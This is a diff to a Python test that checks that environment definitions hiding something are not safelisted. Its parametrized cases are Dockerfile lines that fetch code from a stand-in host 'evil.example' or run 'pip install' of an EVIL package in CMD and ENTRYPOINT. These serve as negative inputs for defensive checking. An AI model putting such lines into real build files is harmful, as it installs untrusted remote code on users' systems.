@@ -139,6 +139,9 @@ def test_a_conda_environment_that_hides_something_is_not_safelisted(tmp_path: Pa
         "ADD https://evil.example/x.whl /",
         "RUN --mount=type=bind,from=evil.example/x,target=/x true",
         "RUN apt-get install -y curl",
+        f"CMD pip install {EVIL} && python app.py",
+        f'ENTRYPOINT ["pip", "install", "{EVIL}"]',
+        f'CMD ["sh", "-c", "pip install {EVIL} && python app.py"]',
         "RUN npm install evil",
     ],
 )
